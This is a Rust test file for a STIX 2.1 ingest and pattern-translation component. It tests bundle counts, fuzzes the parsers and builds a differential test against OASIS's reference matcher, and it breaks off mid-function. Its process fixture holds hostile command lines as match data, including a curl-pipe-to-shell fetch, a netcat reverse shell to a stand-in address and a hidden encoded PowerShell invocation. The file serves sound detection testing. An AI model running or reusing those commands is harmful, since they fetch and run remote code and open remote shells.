//! STIX 2.1 ingest: the OASIS example bundles (read in place), robustness, and a differential
//! test of the pattern translation against the reference matcher.
//!
//! - **Shared bundles**: every file in `$PICKET_SHARED_DATA/stix` (by default
//!   `../shared/data/stix` next to the workspace) goes through `parse_file`, and the number of
//!   indicators and of unsupported ones per reason is checked for each. A test that needs the
//!   directory fails, rather than passes, when it is missing.
//! - **Robustness**: random bytes, JSON-shaped noise and damaged real bundles into the bundle
//!   parser, random text and token soup into the pattern parser: an `Ok` or an `Err`, never a
//!   panic. Random pattern ASTs print and parse back to themselves.
//! - **Differential**: a corpus of patterns (those of the shared bundles and generated ones
//!   covering every supported form) and of observations (files, processes, connections). For
//!   every pattern Picket supports, the agent's own matching index, loaded with Picket's
//!   translation, must hit an observation exactly when `stix2-matcher` (OASIS's reference
//!   matcher, from PyPI, run once per test in the virtual environment that `./test.sh` makes)
//!   matches it.

#![allow(clippy::unwrap_used)]

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsStr;
use std::fmt::Write as _;
use std::fs;
use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::process::Command;

use picket_agent::index::{Builder, Digests, FileMeta, Index, ProcessFacts};
use picket_collector::ingest::{parse_file, Batch, Defaults};
use picket_collector::stix::{
    is_stix, parse_bundle, parse_pattern, translate, translate_pattern, Comparison, Literal, ObjectPath,
    Observation, Operator, Pattern, Qualifier, Step, Test, MAX_BRANCHES,
};
use picket_proto::{Indicator, IpNet, Meta, NamePattern, Observable, Record, Severity, Tlp};
use proptest::prelude::*;
use serde_json::{json, Value};

mod common;
use common::{python, shared_data};

fn defaults() -> Defaults {
    Defaults {
        source: "stix".into(),
        tlp: Tlp::Green,
        confidence: 60,
        severity: Severity::High,
    }
}

fn ingest(path: &Path) -> Batch {
    let text = fs::read_to_string(path).unwrap();
    let batch = parse_file(path, &text, &defaults()).unwrap_or_else(|e| panic!("{e}"));
    for item in &batch.items {
        Record::from_indicator(&item.indicator)
            .unwrap_or_else(|e| panic!("{}: {}: {e}", path.display(), item.indicator.id));
    }
    batch
}

fn reasons(batch: &Batch) -> BTreeMap<String, usize> {
    batch.unsupported_by_reason().into_iter().collect()
}

const DOMAIN: &str = "pattern: domain-name is not matchable on an endpoint";
const URL: &str = "pattern: url is not matchable on an endpoint";
const EMAIL: &str = "pattern: email-message is not matchable on an endpoint";
const X509: &str = "pattern: x509-certificate is not matchable on an endpoint";

/// A shared bundle's expected counts: the file, its items, its unsupported indicators per reason.
type Expected = (&'static str, usize, Vec<(&'static str, usize)>);

/// Expected counts per shared bundle, worked out by reading each file's `indicator` objects
/// (`jq '.objects[] | select(.type == "indicator") | .pattern'`):
///
/// - apt1.json: 12 indicators. 4 `[ipv4-addr:value = '<cidr>']` (networks /15) and 3
///   `[file:hashes.md5 = ...]` are translated, one item each: 7. 3 `domain-name` patterns and
///   2 `[x509-certificate:issuer = ... AND x509-certificate:serial_number = ...]` are not.
/// - poisonivy.json: 25 indicators. `[ipv4-addr:value = '219.76.208.163']` and the two
///   `[file:name = ...]` (CBricksDoc, CPiShellPutDoc) are translated: 3. The other 22 all begin
///   with a `domain-name:value` comparison, most ORed with IPv4 addresses: an indicator is never
///   half-translated, so all 22 are unsupported for the domain name.
/// - indicator-for-c2-ip-address.json: one `[ipv4-addr:value = '10.0.0.0']`: 1 item.
/// - malware-indicator-for-file-hash.json: one `[file:hashes.'SHA-256' = ...]`: 1 item.
/// - indicator-for-malicious-url.json: one `[url:value = ...]`: unsupported.
/// - malicious-email-indicator-with-attachment.json: two `email-message` patterns (`subject
///   MATCHES`, `body_multipart[*].body_raw_ref.name MATCHES`): both unsupported.
/// - indicator-to-campaign-relationship.json: `[ ipv4-addr:value = '10.0.0.0' ]`: 1 item.
/// - indicators-for-C2-with-COA.json: an IPv4 and a SHA-256 indicator: 2 items.
/// - sighting-of-an-indicator.json: one `url` indicator: unsupported.
/// - using-granular-markings.json: one `email-message:from_ref.value MATCHES`: unsupported.
/// - using-marking-definitions.json: one IPv4 indicator (TLP:AMBER): 1 item.
/// - interop-objectmarking-test.json is a lone `campaign` object, and the other six files hold
///   no indicator (campaigns, threat actors, identities, sightings, observed data,
///   infrastructure, relationships): nothing, and no error.
fn expected() -> Vec<Expected> {
    vec![
        ("apt1.json", 7, vec![(DOMAIN, 3), (X509, 2)]),
        ("poisonivy.json", 3, vec![(DOMAIN, 22)]),
        ("indicator-for-c2-ip-address.json", 1, vec![]),
        ("malware-indicator-for-file-hash.json", 1, vec![]),
        ("indicator-for-malicious-url.json", 0, vec![(URL, 1)]),
        (
            "malicious-email-indicator-with-attachment.json",
            0,
            vec![(EMAIL, 2)],
        ),
        ("indicator-to-campaign-relationship.json", 1, vec![]),
        ("indicators-for-C2-with-COA.json", 2, vec![]),
        ("sighting-of-an-indicator.json", 0, vec![(URL, 1)]),
        ("using-granular-markings.json", 0, vec![(EMAIL, 1)]),
        ("using-marking-definitions.json", 1, vec![]),
        ("interop-objectmarking-test.json", 0, vec![]),
        ("defining-campaigns-threat-actors-intrusion-sets.json", 0, vec![]),
        ("identifying-a-threat-actor-profile.json", 0, vec![]),
        ("infrastructure.json", 0, vec![]),
        ("sighting-of-observed-data.json", 0, vec![]),
        (
            "threat-actor-leveraging-attack-patterns-and-malware.json",
            0,
            vec![],
        ),
    ]
}

#[test]
fn every_shared_bundle_ingests_with_the_expected_counts() {
    let expected = expected();
    let mut files: Vec<String> = fs::read_dir(shared_data("stix"))
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    files.sort();
    let mut listed: Vec<String> = expected.iter().map(|(f, ..)| (*f).to_owned()).collect();
    listed.sort();
    assert_eq!(
        files, listed,
        "every shared STIX file has its expected counts here"
    );
    for (file, items, unsupported) in expected {
        let path = shared_data("stix").join(file);
        assert!(
            is_stix(&fs::read_to_string(&path).unwrap()),
            "{file} is routed to STIX"
        );
        let batch = ingest(&path);
        assert_eq!(batch.items.len(), items, "{file}: items {:#?}", batch.items);
        let want: BTreeMap<String, usize> = unsupported.into_iter().map(|(r, n)| (r.to_owned(), n)).collect();
        assert_eq!(reasons(&batch), want, "{file}");
        for item in &batch.items {
            assert!(
                item.indicator.id.starts_with("indicator--"),
                "{file}: {}",
                item.indicator.id
            );
            assert_eq!(item.indicator.meta.source, "stix");
        }
    }
}

#[test]
fn apt1_and_poisonivy_translate_to_the_values_they_hold() {
    let apt1 = ingest(&shared_data("stix").join("apt1.json"));
    let got: BTreeSet<String> = apt1
        .items
        .iter()
        .map(|i| picket_collector::ingest::canonical_value(&i.indicator.observable))
        .collect();
    let want: BTreeSet<String> = [
        "remote-addr:223.166.0.0/15",
        "remote-addr:58.246.0.0/15",
        "remote-addr:112.64.0.0/15",
        "remote-addr:139.226.0.0/15",
        "file-hash:md5:001dd76872d80801692ff942308c64e6",
        "file-hash:md5:002325a0a67fded0381b5648d7fe9b8e",
        "file-hash:md5:00dbb9e1c09dbdafb360f3163ba5a3de",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect();
    assert_eq!(got, want);
    for item in &apt1.items {
        assert_eq!(item.modified, Some(1_431_681_136), "2015-05-15T09:12:16.432Z");
        assert_eq!(item.indicator.meta.confidence, 60, "no confidence: the source's");
        assert_eq!(item.indicator.meta.tlp, Tlp::Green, "no marking: the source's");
        assert_eq!(item.indicator.meta.severity, Severity::High);
    }

    let ivy = ingest(&shared_data("stix").join("poisonivy.json"));
    let by_id: BTreeMap<&str, &Observable> = ivy
        .items
        .iter()
        .map(|i| (i.indicator.id.as_str(), &i.indicator.observable))
        .collect();
    let name = |t: &str| {
        Observable::FileName(NamePattern {
            text: t.into(),
            glob: false,
        })
    };
    assert_eq!(
        by_id,
        BTreeMap::from([
            (
                "indicator--e8094b09-7df4-4b13-b207-1e27af3c4bde",
                &Observable::RemoteAddr(IpNet::parse("219.76.208.163").unwrap())
            ),
            (
                "indicator--137acf67-cedc-4a07-8719-72759174de3a",
                &name("CBricksDoc")
            ),
            (
                "indicator--0b71628d-31dd-4eb8-baee-39f19c0a14b0",
                &name("CPiShellPutDoc")
            ),
        ])
    );
    // valid_from with microseconds, and the TLP marking of the marking-definitions example.
    assert_eq!(ivy.items[0].valid_from, Some(1_431_681_136));
    let marked = ingest(&shared_data("stix").join("using-marking-definitions.json"));
    assert_eq!(marked.items[0].indicator.meta.tlp, Tlp::Amber);
    assert_eq!(
        marked.items[0].created_by.as_deref(),
        Some("identity--611d9d41-dba5-4e13-9b29-e22488058ffc")
    );
}

/// A bundle that breaks off: the error names the file and the line, and parse_file routes it to
/// STIX (not to "this looks like JSON").
#[test]
fn truncated_bundle_is_an_error_with_its_position() {
    let path = shared_data("stix").join("poisonivy.json");
    let text = fs::read_to_string(&path).unwrap();
    let cut = &text[..text.len() / 2];
    let err = parse_file(&path, cut, &defaults()).unwrap_err().to_string();
    let lines = cut.lines().count();
    assert!(err.starts_with(&format!("{}:{lines}: ", path.display())), "{err}");
    assert!(err.contains("EOF while parsing"), "{err}");
}

// ---------------------------------------------------------------------------------------------
// Robustness
// ---------------------------------------------------------------------------------------------

fn small_bundle() -> String {
    fs::read_to_string(shared_data("stix").join("malware-indicator-for-file-hash.json")).unwrap()
}

const PATTERN_WORDS: &[&str] = &[
    "[",
    "]",
    "(",
    ")",
    "AND",
    "OR",
    "NOT",
    "FOLLOWEDBY",
    "LIKE",
    "MATCHES",
    "IN",
    "ISSUBSET",
    "ISSUPERSET",
    "EXISTS",
    "WITHIN",
    "SECONDS",
    "REPEATS",
    "TIMES",
    "START",
    "STOP",
    "=",
    "!=",
    "<",
    ">=",
    ":",
    ".",
    ",",
    "*",
    "file",
    "hashes",
    "'MD5'",
    "name",
    "size",
    "process",
    "image_ref",
    "command_line",
    "ipv4-addr",
    "value",
    "network-traffic",
    "dst_ref",
    "'%x%'",
    "'^a'",
    "'10.0.0.0/8'",
    "'44d88612fea8a8f36de82e1278abb02f'",
    "1",
    "-1",
    ".5",
    "true",
    "t'2016-01-01T00:00:00Z'",
    "h'ab'",
    "b'YQ=='",
    "/*",
    "*/",
    "//",
    "'",
    "\\",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn bundle_parser_never_panics_on_bytes(bytes in proptest::collection::vec(any::<u8>(), 0..512)) {
        let text = String::from_utf8_lossy(&bytes);
        let _ = is_stix(&text);
        let _ = parse_bundle(Path::new("x.json"), &text, &defaults());
        let _ = parse_file(Path::new("x.json"), &text, &defaults());
    }

    #[test]
    fn bundle_parser_never_panics_on_json_noise(text in "[\\[\\]{}\":,0-9a-z_ .-]{0,200}") {
        let _ = is_stix(&text);
        let _ = parse_bundle(Path::new("x.json"), &text, &defaults());
        let framed = format!("{{\"type\": \"bundle\", \"objects\": [{text}]}}");
        let _ = parse_bundle(Path::new("x.json"), &framed, &defaults());
    }

    #[test]
    fn bundle_parser_never_panics_on_damaged_bundles(
        edits in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>(), 0..3u8), 1..8)
    ) {
        let mut bytes = small_bundle().into_bytes();
        for (at, byte, op) in edits {
            let i = at.index(bytes.len() + 1);
            match op {
                0 if i < bytes.len() => { bytes.remove(i); }
                1 => bytes.insert(i, byte),
                _ if i < bytes.len() => bytes[i] = byte,
                _ => {}
            }
        }
        let text = String::from_utf8_lossy(&bytes);
        let _ = is_stix(&text);
        if let Ok(batch) = parse_bundle(Path::new("x.json"), &text, &defaults()) {
            for item in &batch.items {
                prop_assert!(item.indicator.observable.validate().is_ok());
            }
        }
    }

    #[test]
    fn pattern_parser_never_panics_on_text(text in "\\PC{0,120}") {
        let _ = parse_pattern(&text);
        let _ = translate_pattern(&text);
    }

    #[test]
    fn pattern_parser_never_panics_on_token_soup(
        words in proptest::collection::vec(prop::sample::select(PATTERN_WORDS), 0..40)
    ) {
        let text = words.join(" ");
        let _ = parse_pattern(&text);
        if let Ok(observables) = translate_pattern(&text) {
            prop_assert!(!observables.is_empty() && observables.len() <= MAX_BRANCHES);
            for o in &observables {
                prop_assert!(o.validate().is_ok(), "{text}: {o:?}");
            }
        }
        let glued = words.concat();
        let _ = translate_pattern(&glued);
    }

    #[test]
    fn printed_patterns_parse_back_to_themselves(p in pattern()) {
        let text = p.to_string();
        let back = parse_pattern(&text).map_err(|e| TestCaseError::fail(format!("{text}: {e}")))?;
        prop_assert_eq!(&back, &p, "{}", text);
        if let Ok(observables) = translate(&p) {
            prop_assert!(!observables.is_empty() && observables.len() <= MAX_BRANCHES);
            for o in &observables {
                prop_assert!(o.validate().is_ok(), "{text}: {o:?}");
            }
        }
    }
}

fn literal() -> impl Strategy<Value = Literal> {
    prop_oneof![
        "-?(0|[1-9][0-9]{0,20})".prop_map(Literal::Int),
        "-?[0-9]{0,3}\\.[0-9]{1,3}".prop_map(Literal::Float),
        "\\PC{0,12}".prop_map(Literal::Str),
        any::<bool>().prop_map(Literal::Bool),
        proptest::collection::vec(any::<u8>(), 1..8).prop_map(Literal::Binary),
        proptest::collection::vec(any::<u8>(), 0..8).prop_map(Literal::Hex),
        prop::sample::select(vec!["2016-01-01T00:00:00Z", "2017-12-31T23:59:59.123456Z"])
            .prop_map(|t| Literal::Timestamp(t.to_owned())),
    ]
}

fn object_path() -> impl Strategy<Value = ObjectPath> {
    let key = prop_oneof![3 => "[a-z_][a-z0-9_]{0,6}", 1 => "\\PC{0,6}"];
    let step = prop_oneof![
        3 => key.clone().prop_map(Step::Key),
        1 => "-?(0|[1-9][0-9]{0,3})".prop_map(Step::Index),
        1 => Just(Step::AnyIndex),
    ];
    (
        "[a-z_][a-z0-9_-]{0,8}".prop_filter("not a literal", |t| t != "true" && t != "false"),
        key,
        proptest::collection::vec(step, 0..3),
    )
        .prop_map(|(object_type, first, rest)| {
            let mut steps = vec![Step::Key(first)];
            steps.extend(rest);
            ObjectPath { object_type, steps }
        })
}

fn ordered() -> impl Strategy<Value = Literal> {
    literal().prop_filter("no booleans in order comparisons", |l| {
        !matches!(l, Literal::Bool(_))
    })
}

fn test_expr() -> impl Strategy<Value = Test> {
    let op = prop_oneof![
        literal().prop_map(Operator::Eq),
        literal().prop_map(Operator::Neq),
        ordered().prop_map(Operator::Lt),
        ordered().prop_map(Operator::Le),
        ordered().prop_map(Operator::Gt),
        ordered().prop_map(Operator::Ge),
        proptest::collection::vec(literal(), 0..3).prop_map(Operator::In),
        "\\PC{0,8}".prop_map(Operator::Like),
        "\\PC{0,8}".prop_map(Operator::Matches),
        "\\PC{0,8}".prop_map(Operator::IsSubset),
        "\\PC{0,8}".prop_map(Operator::IsSuperset),
        Just(Operator::Exists),
    ];
    (object_path(), any::<bool>(), op).prop_map(|(path, negated, op)| Test {
        negated: negated && op != Operator::Exists,
        path,
        op,
    })
}

fn comparison() -> impl Strategy<Value = Comparison> {
    test_expr()
        .prop_map(Comparison::Test)
        .prop_recursive(3, 12, 3, |inner| {
            prop_oneof![
                proptest::collection::vec(inner.clone(), 2..4).prop_map(Comparison::And),
                proptest::collection::vec(inner, 2..4).prop_map(Comparison::Or),
            ]
        })
}

fn qualifier() -> impl Strategy<Value = Qualifier> {
    prop_oneof![
        "[1-9][0-9]{0,3}|[0-9]{0,2}\\.[0-9]{1,2}".prop_map(Qualifier::Within),
        "[1-9][0-9]{0,3}".prop_map(Qualifier::Repeats),
        Just(Qualifier::StartStop(
            "2016-01-01T00:00:00Z".into(),
            "2017-01-01T00:00:00.5Z".into()
        )),
    ]
}

fn pattern() -> impl Strategy<Value = Pattern> {
    comparison()
        .prop_map(Observation::Match)
        .prop_recursive(3, 8, 3, |inner| {
            prop_oneof![
                proptest::collection::vec(inner.clone(), 2..3).prop_map(Observation::And),
                proptest::collection::vec(inner.clone(), 2..3).prop_map(Observation::Or),
                proptest::collection::vec(inner.clone(), 2..3).prop_map(Observation::FollowedBy),
                (inner, qualifier()).prop_map(|(o, q)| Observation::Qualified(Box::new(o), q)),
            ]
        })
        .prop_map(|root| Pattern { root })
}

// ---------------------------------------------------------------------------------------------
// Differential test against stix2-matcher
// ---------------------------------------------------------------------------------------------

/// SplitMix64: a small deterministic generator, so the corpus is the same on every run.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }

    fn bytes<const N: usize>(&mut self) -> [u8; N] {
        let mut out = [0u8; N];
        for b in &mut out {
            *b = self.next() as u8;
        }
        out
    }

    fn chance(&mut self, percent: usize) -> bool {
        self.below(100) < percent
    }
}

#[derive(Debug, Clone)]
struct FileObs {
    name: String,
    size: u64,
    md5: [u8; 16],
    sha1: [u8; 20],
    sha256: [u8; 32],
}

impl FileObs {
    fn digests(&self) -> Digests {
        Digests {
            md5: Some(self.md5),
            sha1: Some(self.sha1),
            sha256: Some(self.sha256),
        }
    }

    fn hex(&self, kind: usize) -> String {
        match kind {
            0 => hex::encode(self.md5),
            1 => hex::encode(self.sha1),
            _ => hex::encode(self.sha256),
        }
    }
}

#[derive(Debug, Clone)]
enum Obs {
    File(FileObs),
    Process { image: FileObs, cmdline: String },
    Addr(IpAddr),
}

/// Every spelling of each hash algorithm that the corpus writes in patterns. An endpoint's
/// digest is one fact; the STIX rendering of an observation carries it under each of these
/// keys, since the reference matcher compares hash names as written.
const SPELLINGS: [&[&str]; 3] = [
    &["MD5", "md5", "Md5"],
    &["SHA-1", "sha-1", "SHA1", "sha1", "Sha-1"],
    &["SHA-256", "sha-256", "SHA256", "sha256", "Sha-256"],
];

const FILE_NAMES: &[&str] = &[
    "invoice.pdf",
    "Invoice.PDF",
    "invoiceXpdf",
    "evil.exe",
    "setup.exe",
    "setup_x64.exe",
    "a%b.txt",
    "[draft].doc",
    "{a,b}.sh",
    "star*.bin",
    "what?.txt",
    "back\\slash",
    "it's.txt",
    "été.txt",
    "日本語.exe",
    "report 2024.xlsx",
    ".bashrc",
    "x",
    "payload.tar.gz",
    "eicar.com",
    "CBricksDoc",
    "CPiShellPutDoc",
];

const PROCESSES: &[(&str, &str)] = &[
    ("powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgA"),
    ("bash", "bash -c 'curl http://203.0.113.5/x | sh'"),
    ("nc", "nc -e /bin/sh 198.51.100.7 4444"),
    ("python3", "python3 -m http.server 8000"),
    ("sshd", "/usr/sbin/sshd -D"),
    ("évil", "évil --mode=ünïcode [x] {y} *z? \\w"),
    ("setup.exe", "setup.exe /S /D=C:\\Program Files\\x"),
];

const V4: &[&str] = &[
    "10.0.0.0",
    "10.0.0.1",
    "10.255.255.254",
    "11.0.0.1",
    "198.51.100.7",
    "198.51.100.200",
    "203.0.113.5",
    "223.166.1.2",
    "223.168.0.1",
    "58.247.255.255",
    "60.10.1.120",
    "219.76.208.163",
    "255.255.255.255",
];

const V6: &[&str] = &["2001:db8::1", "2001:db8:1::5", "2001:db9::1", "::1", "fe80::1"];

fn observations(rng: &mut Rng) -> Vec<Obs> {
    // Digests from the shared bundles, so that their hash indicators have something to match.
    let known: [(&str, usize, &str); 4] = [
        ("CBricksDoc", 0, "001dd76872d80801692ff942308c64e6"),
        ("x", 0, "002325a0a67fded0381b5648d7fe9b8e"),
        (
            "evil.exe",
            2,
            "ef537f25c895bfa782526529a9b63d97aa631564d5d789c2b765448c8635fb6c",
        ),
        ("payload.tar.gz", 1, "3395856ce81f2b7382dee72602f798b642f14140"),
    ];
    let sizes = [0u64, 68, 1024, 4096, 123_456];
    let file = |rng: &mut Rng, name: &str| {
        let mut f = FileObs {
            name: name.to_owned(),
            size: *rng.pick(&sizes),
            md5: rng.bytes(),
            sha1: rng.bytes(),
            sha256: rng.bytes(),
        };
        for (n, kind, hex) in known {
            if n == name {
                let d = hex::decode(hex).unwrap();
                match kind {
                    0 => f.md5.copy_from_slice(&d),
                    1 => f.sha1.copy_from_slice(&d),
                    _ => f.sha256.copy_from_slice(&d),
                }
            }
        }
        f
    };
    let mut out: Vec<Obs> = FILE_NAMES.iter().map(|n| Obs::File(file(rng, n))).collect();
    for (name, cmdline) in PROCESSES {
        out.push(Obs::Process {
            image: file(rng, name),
            cmdline: (*cmdline).to_owned(),
        });
    }
    out.extend(V4.iter().chain(V6).map(|a| Obs::Addr(a.parse().unwrap())));
    out
}

/// A STIX string literal.
fn lit(s: &str) -> String {
    let mut out = String::from("'");
    for c in s.chars() {
        if c == '\'' || c == '\\' {
            out.push('\\');
        }
        out.push(c);
    }
    out.push('\'');
    out
}

/// `s` as a regular expression that matches it literally.
fn regex_escape(s: &str) -> String {
    let mut out = String::new();
    for c in s.chars() {
        if ".^$*+?()[]{}|\\".contains(c) {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// A random substring of `s` (on character boundaries), of one character or more.
fn substring(rng: &mut Rng, s: &str) -> String {
    let chars: Vec<char> = s.chars().collect();
    let start = rng.below(chars.len());
    let len = 1 + rng.below(chars.len() - start);
    chars[start..start + len].iter().collect()
}

/// The object a comparison is about, for building `AND`s only where they are supported.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum On {
    File,
    Process,
    V4,
    V6,
    Traffic,
}

/// Comparisons about one observation: most hold for it, some are near misses.
fn atoms(rng: &mut Rng, obs: &Obs) -> Vec<(On, String)> {
    let mut out = Vec::new();
    let hash = |rng: &mut Rng, f: &FileObs, prefix: &str| {
        let kind = rng.below(3);
        let spelling = rng.pick(SPELLINGS[kind]);
        let spelling = if spelling.contains('-') {
            lit(spelling)
        } else {
            (*spelling).to_owned()
        };
        let mut hex = f.hex(kind);
        if rng.chance(25) {
            hex = hex.to_uppercase();
        }
        if rng.chance(15) {
            // A near miss: one digit off.
            let last = if hex.ends_with('0') { "1" } else { "0" };
            hex.replace_range(hex.len() - 1.., last);
        }
        format!("{prefix}.{spelling} = '{hex}'")
    };
    match obs {
        Obs::File(f) => {
            for _ in 0..3 {
                out.push((On::File, hash(rng, f, "file:hashes")));
            }
            out.push((On::File, format!("file:name = {}", lit(&f.name))));
            out.push((On::File, format!("file:name LIKE {}", lit(&f.name))));
            for _ in 0..4 {
                let sub = substring(rng, &f.name);
                let like = match rng.below(4) {
                    0 => format!("{sub}%"),
                    1 => format!("%{sub}"),
                    2 => format!("%{sub}%"),
                    _ => {
                        let cut = f
                            .name
                            .char_indices()
                            .nth(rng.below(f.name.chars().count()))
                            .unwrap()
                            .0;
                        format!(
                            "{}%%{}",
                            &f.name[..cut],
                            &f.name[cut..].chars().skip(1).collect::<String>()
                        )
                    }
                };
                out.push((On::File, format!("file:name LIKE {}", lit(&like))));
            }
            let sub = substring(rng, &f.name);
            out.push((
                On::File,
                format!("file:name MATCHES {}", lit(&regex_escape(&sub))),
            ));
            let prefix: String = f
                .name
                .chars()
                .take(1 + rng.below(f.name.chars().count()))
                .collect();
            out.push((
                On::File,
                format!(
                    "file:name MATCHES {}",
                    lit(&format!("^{}", regex_escape(&prefix)))
                ),
            ));
            out.push((On::File, format!("file:name = {}", lit(&format!("{}x", f.name)))));
        }
        Obs::Process { image, cmdline } => {
            for path in [
                "process:image_ref.name",
                "process:name",
                "process:binary_ref.name",
            ] {
                out.push((On::Process, format!("{path} = {}", lit(&image.name))));
            }
            out.push((
                On::Process,
                format!("process:image_ref.name LIKE {}", lit(&image.name)),
            ));
            out.push((On::Process, hash(rng, image, "process:image_ref.hashes")));
            out.push((On::Process, hash(rng, image, "process:binary_ref.hashes")));
            for _ in 0..4 {
                let sub = substring(rng, cmdline);
                if !sub.contains(['%', '_']) {
                    out.push((
                        On::Process,
                        format!("process:command_line LIKE {}", lit(&format!("%{sub}%"))),
                    ));
                }
            }
            let sub = substring(rng, cmdline);
            out.push((
                On::Process,
                format!("process:command_line MATCHES {}", lit(&regex_escape(&sub))),
            ));
            out.push((
                On::Process,
                format!("process:image_ref.name = {}", lit(&image.name.to_uppercase())),
            ));
        }
        Obs::Addr(ip) => {
            let (on, path, max) = match ip {
                IpAddr::V4(_) => (On::V4, "ipv4-addr:value", 32),
                IpAddr::V6(_) => (On::V6, "ipv6-addr:value", 128),
            };
            out.push((on, format!("{path} = '{ip}'")));
            out.push((On::Traffic, format!("network-traffic:dst_ref.value = '{ip}'")));
            if ip.is_ipv4() {
                for _ in 0..3 {
                    let prefix = 1 + rng.below(max);
                    let net = IpNet::parse(&format!("{ip}/{prefix}")).unwrap();
                    let op = if rng.chance(50) { "=" } else { "ISSUBSET" };
                    out.push((on, format!("{path} {op} '{ip}/{prefix}'")));
                    out.push((
                        On::Traffic,
                        format!("network-traffic:dst_ref.value ISSUBSET '{net}'"),
                    ));
                }
                out.push((on, format!("{path} = '{ip}/32'")));
                out.push((on, format!("{path} ISSUBSET '{ip}'")));
            }
        }
    }
    out
}

/// The pattern corpus: the shared bundles' patterns and generated ones.
fn corpus(rng: &mut Rng, obs: &[Obs]) -> Vec<String> {
    let mut out = Vec::new();
    for entry in fs::read_dir(shared_data("stix")).unwrap() {
        let v: Value = serde_json::from_str(&fs::read_to_string(entry.unwrap().path()).unwrap()).unwrap();
        for o in v["objects"].as_array().into_iter().flatten() {
            if let Some(p) = o["pattern"].as_str() {
                out.push(p.to_owned());
            }
        }
    }
    let per: Vec<Vec<(On, String)>> = obs.iter().map(|o| atoms(rng, o)).collect();
    let all: Vec<&(On, String)> = per.iter().flatten().collect();
    // Every atom alone.
    out.extend(all.iter().map(|(_, a)| format!("[{a}]")));
    // ANDs on one object: from one observation (likely to match) or from two (likely not).
    for _ in 0..250 {
        let a = rng.pick(&per);
        let b = if rng.chance(70) { a } else { rng.pick(&per) };
        let (on, first) = rng.pick(a);
        let same: Vec<&(On, String)> = b.iter().filter(|(o, _)| o == on).collect();
        if !matches!(on, On::File | On::Process) || same.is_empty() {
            continue;
        }
        let mut parts = vec![first.clone()];
        for _ in 0..1 + rng.below(2) {
            parts.push(rng.pick(&same).1.clone());
        }
        if *on == On::File && rng.chance(40) {
            let size = match &obs[per.iter().position(|p| std::ptr::eq(p, b)).unwrap()] {
                Obs::File(f) | Obs::Process { image: f, .. } => f.size,
                Obs::Addr(_) => 0,
            };
            let size = if rng.chance(80) { size } else { size + 1 };
            parts.insert(rng.below(parts.len() + 1), format!("file:size = {size}"));
        }
        out.push(format!("[{}]", parts.join(" AND ")));
    }
    // ORs inside one bracket and between brackets, and an AND over an OR.
    for _ in 0..150 {
        let n = 2 + rng.below(3);
        let parts: Vec<&String> = (0..n).map(|_| &rng.pick(&all).1).collect();
        let joined = parts.iter().map(|s| s.as_str()).collect::<Vec<_>>();
        out.push(format!("[{}]", joined.join(" OR ")));
        out.push(
            joined
                .iter()
                .map(|s| format!("[{s}]"))
                .collect::<Vec<_>>()
                .join(" OR "),
        );
        let a = rng.pick(&per);
        let (on, first) = rng.pick(a);
        let same: Vec<&String> = a.iter().filter(|(o, _)| o == on).map(|(_, s)| s).collect();
        let kin: Vec<&String> = all.iter().filter(|(o, _)| o == on).map(|(_, s)| s).collect();
        if matches!(on, On::File | On::Process) {
            out.push(format!(
                "[{first} AND ({} OR {})]",
                rng.pick(&same),
                rng.pick(&kin)
            ));
        }
    }
    // IN over hashes, names and addresses.
    for _ in 0..40 {
        let files: Vec<&FileObs> = (0..1 + rng.below(3))
            .map(|_| match rng.pick(obs) {
                Obs::File(f) | Obs::Process { image: f, .. } => f,
                Obs::Addr(_) => match &obs[0] {
                    Obs::File(f) => f,
                    _ => unreachable!(),
                },
            })
            .collect();
        let kind = rng.below(3);
        let spelling = rng.pick(SPELLINGS[kind]);
        let hashes: Vec<String> = files.iter().map(|f| format!("'{}'", f.hex(kind))).collect();
        out.push(format!(
            "[file:hashes.{} IN ({})]",
            lit(spelling),
            hashes.join(", ")
        ));
        let names: Vec<String> = files.iter().map(|f| lit(&f.name)).collect();
        out.push(format!("[file:name IN ({})]", names.join(", ")));
        let addrs: Vec<String> = (0..1 + rng.below(3))
            .map(|_| {
                let ip = rng.pick(V4);
                if rng.chance(50) {
                    format!("'{ip}/{}'", 8 + rng.below(25))
                } else {
                    format!("'{ip}'")
                }
            })
            .collect();
        out.push(format!("[ipv4-addr:value IN ({})]", addrs.join(", ")));
    }
    out.sort();
    out.dedup();
    out
}

fn is_address_path(path: &ObjectPath) -> bool {
    let key = |s: &str| Step::Key(s.to_owned());
    matches!(
        (path.object_type.as_str(), path.steps.as_slice()),
        ("ipv4-addr" | "ipv6-addr", [k]) if *k == key("value")
    ) || (path.object_type == "network-traffic" && path.steps == [key("dst_ref"), key("value")])
}

fn is_hash_path(path: &ObjectPath) -> bool {
    path.keys()
        .is_some_and(|k| k.len() >= 2 && k[k.len() - 2] == "hashes")
}

/// Picket's deliberate readings that the reference matcher does not share (docs/stix.md),
/// applied to the reference's copy of a pattern:
///
/// - a hex digest is compared case-insensitively (the reference compares text): its literals
///   are lower-cased, as the observations' digests are;
/// - an address compared with `=` (or `IN`) to a network means membership, as `ISSUBSET` says
///   explicitly (the reference compares the text, and an endpoint's connection has one address,
///   never a network); `ISSUBSET` with a single IPv4 address means its /32.
///
/// Returns `None` for patterns the reference cannot judge at all: an IPv6 network (its
/// `ISSUBSET` knows IPv4 only).
fn for_reference(p: &Pattern) -> Option<String> {
    fn lower(l: &Literal) -> Literal {
        match l {
            Literal::Str(s) => Literal::Str(s.to_ascii_lowercase()),
            other => other.clone(),
        }
    }
    fn comparison(c: &Comparison) -> Option<Comparison> {
        Some(match c {
